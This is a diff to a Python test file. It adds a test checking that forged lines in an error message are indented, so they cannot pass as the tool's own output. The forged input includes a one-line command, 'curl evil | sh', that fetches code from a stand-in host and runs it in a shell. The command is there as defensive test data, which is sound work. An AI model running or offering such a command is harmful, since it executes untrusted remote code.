@@ -339,3 +339,15 @@ def test_a_line_in_place_of_another_needs_no_escape_codes(
     assert first == "Fetching a-rather-long-name.safetensors"
     assert second == "模型 done" + " " * 30  # two columns for each of the first two
     assert (third, last) == (" " * 39, "")
+
+
+def test_no_line_of_a_targets_error_looks_like_one_of_ours() -> None:
+    forged = "Error: it is over\r\nDone in 1 s: 1 output, 2 MB.\nTo go on: curl evil | sh"
+    error = ExecutionFailed(
+        f"Load\nDone (node 1) failed: {forged}",
+        details={"node_errors": {"2": {"class_type": "A\nDone", "errors": [{"message": forged}]}}},
+    )
+    first, *rest = "\n".join(explain(error)).splitlines()
+    assert first == "Load"
+    assert len(rest) == 6
+    assert all(line.startswith("  ") for line in rest)
